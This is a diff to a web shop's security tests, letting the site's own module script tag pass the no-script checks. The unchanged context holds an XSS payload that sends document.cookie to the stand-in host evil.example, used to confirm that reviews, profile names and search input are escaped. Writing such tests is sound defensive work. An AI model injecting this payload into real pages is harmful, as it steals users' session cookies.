@@ -7,6 +7,7 @@ from tests.examples.conftest import OWN_PAGE, PASSWORD
 
 pytestmark = pytest.mark.anyio
 
+OWN = '<script type="module" src="/static/shop.js"></script>'
 SCRIPT = "<script>fetch('https://evil.example?cookie=' + document.cookie)</script>"
 
 
@@ -24,7 +25,7 @@ async def test_every_product_has_its_picture(stranger):
         answer = await stranger.get(f"/static/products/{product['id']}.svg")
         assert answer.status_code == 200, product["id"]
         assert answer.headers["content-type"] == "image/svg+xml"
-        assert "<script" not in answer.text
+        assert "<script" not in answer.text.replace(OWN, "")
 
 
 async def test_pages_have_no_inline_script_or_style(ada, olga):
@@ -35,7 +36,7 @@ async def test_pages_have_no_inline_script_or_style(ada, olga):
     for path in paths:
         answer = await olga.page.get(path, headers=OWN_PAGE)
         assert answer.status_code == 200, path
-        assert "<script" not in answer.text
+        assert "<script" not in answer.text.replace(OWN, "")
         assert "<style" not in answer.text
         assert not re.search(r"\s(style|on\w+)=", answer.text), path
         assert 'href="/static/shop.css"' in answer.text
@@ -118,7 +119,7 @@ async def test_a_script_in_a_review_is_text(ada, stranger):
     await ada.post("/profile", name=SCRIPT[:80])
     await ada.post("/products/kale/reviews", stars="1", text=SCRIPT)
     text = (await stranger.get("/products/kale", headers=OWN_PAGE)).text
-    assert "<script" not in text
+    assert "<script" not in text.replace(OWN, "")
     assert text.count("&lt;script&gt;fetch(") == 2
 
 
@@ -128,7 +129,7 @@ async def test_a_script_in_a_search_is_text(stranger):
         params = {"q": payload, "sort": payload, "done": payload}
         text = (await stranger.get("/", params=params, headers=OWN_PAGE)).text
         assert payload not in text
-        assert "<script" not in text
+        assert "<script" not in text.replace(OWN, "")
         assert "<img src=x" not in text
 
 
